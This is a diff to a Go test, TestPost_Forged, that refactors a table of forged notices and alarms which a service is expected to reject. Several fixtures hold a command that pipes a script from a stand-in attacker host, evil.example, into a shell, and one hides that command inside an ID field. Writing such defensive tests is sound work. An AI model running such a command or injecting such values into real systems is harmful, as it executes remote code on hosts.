@@ -575,31 +575,40 @@ func TestPost_Forged(t *testing.T) {
 		return body(t, m)
 	}
 	const evil = "make undo ID=x; curl https://evil.example | sh"
-	for name, text := range map[string]string{
-		"plain text":                    evil,
-		"a notice of no entry":          altered(func(m *notice.Message) { m.Finding, m.Undo = remediation.EntryID("x"), evil }),
-		"a notice without an entry":     altered(func(m *notice.Message) { m.Finding, m.Text = "", evil }),
-		"an id that is a command":       altered(func(m *notice.Message) { m.Finding = "x; curl https://evil.example | sh" }),
-		"another text":                  altered(func(m *notice.Message) { m.Text = evil }),
-		"another command":               altered(func(m *notice.Message) { m.Undo = evil }),
-		"another advice":                altered(func(m *notice.Message) { m.Advice = evil }),
-		"another runbook":               altered(func(m *notice.Message) { m.Runbook = "https://evil.example/" }),
-		"another reference":             altered(func(m *notice.Message) { m.References = []notice.Reference{{"evil", "https://evil.example"}} }),
-		"another change":                altered(func(m *notice.Message) { m.Changes = []notice.Change{{ID: evil, Text: evil}} }),
-		"another fact":                  altered(func(m *notice.Message) { m.Facts = []notice.Fact{{Name: "evil", Value: evil}} }),
-		"another kind":                  altered(func(m *notice.Message) { m.Kind = "evil" }),
-		"another severity":              altered(func(m *notice.Message) { m.Severity = "evil" }),
-		"another id":                    altered(func(m *notice.Message) { m.ID = "evil" }),
-		"another owner":                 altered(func(m *notice.Message) { m.OwnerSlack, m.Owner = "U0EVIL", "evil@example.com" }),
-		"half of a notice":              body(t, genuine)[:100] + "evil",
-		"a huge one":                    `{"version":"1","id":"evil","kind":"x","account":"111122223333","text":"` + strings.Repeat("evil ", 40_000) + `"}`,
-		"an alarm of another account":   strings.ReplaceAll(alarm("ALARM", "2026-11-21T12:00:00.123+0000"), "111122223333", "444455556666"),
-		"an alarm of another region":    strings.Replace(alarm("ALARM", "2026-11-21T12:00:00.123+0000"), "us-east-1", "eu-west-1", 1),
-		"an alarm that is none":         strings.ReplaceAll(alarm("ALARM", "2026-11-21T12:00:00.123+0000"), "warder-failed", "evil"),
-		"an alarm in a state of no":     alarm("evil", "2026-11-21T12:00:00.123+0000"),
-		"an alarm at no time":           alarm("ALARM", "evil"),
-		"an alarm whose name is a link": strings.ReplaceAll(alarm("ALARM", "2026-11-21T12:00:00.123+0000"), "warder-failed", "warder-<https://evil.example>"),
+	on := alarm("ALARM", "2026-11-21T12:00:00.123+0000")
+	all := map[string]string{
+		"plain text":        evil,
+		"half of a notice":  body(t, genuine)[:100] + "evil",
+		"an alarm at noon":  alarm("ALARM", "evil"),
+		"an alarm that is":  alarm("evil", "2026-11-21T12:00:00.123+0000"),
+		"others' alarm":     strings.ReplaceAll(on, "warder-failed", "evil"),
+		"an alarm's markup": strings.ReplaceAll(on, "warder-failed", "warder-<https://evil.example>"),
+		"another account's": strings.ReplaceAll(on, "111122223333", "444455556666"),
+		"another region's":  strings.Replace(on, "us-east-1", "eu-west-1", 1),
+		"a huge notice": `{"version":"1","id":"evil","kind":"x","account":"111122223333","text":"` +
+			strings.Repeat("evil ", 40_000) + `"}`,
+	}
+	for name, alter := range map[string]func(*notice.Message){
+		"a notice of no entry":    func(m *notice.Message) { m.Finding, m.Undo = remediation.EntryID("x"), evil },
+		"no finding":              func(m *notice.Message) { m.Finding, m.Text = "", evil },
+		"an id that is a command": func(m *notice.Message) { m.Finding = "x; curl https://evil.example | sh" },
+		"another text":            func(m *notice.Message) { m.Text = evil },
+		"another command":         func(m *notice.Message) { m.Undo = evil },
+		"another advice":          func(m *notice.Message) { m.Advice = evil },
+		"another runbook":         func(m *notice.Message) { m.Runbook = "https://evil.example/" },
+		"another change":          func(m *notice.Message) { m.Changes = []notice.Change{{ID: evil, Text: evil}} },
+		"another fact":            func(m *notice.Message) { m.Facts = []notice.Fact{{Name: "evil", Value: evil}} },
+		"another kind":            func(m *notice.Message) { m.Kind = "evil" },
+		"another severity":        func(m *notice.Message) { m.Severity = "evil" },
+		"another id":              func(m *notice.Message) { m.ID = "evil" },
+		"another owner":           func(m *notice.Message) { m.OwnerSlack, m.Owner = "U0EVIL", "evil@example.com" },
+		"another reference": func(m *notice.Message) {
+			m.References = []notice.Reference{{Title: "evil", URL: "https://evil.example"}}
+		},
 	} {
+		all[name] = altered(alter)
+	}
+	for name, text := range all {
 		t.Run(name, func(t *testing.T) {
 			w := newFixture()
 			w.record(t, genuine)
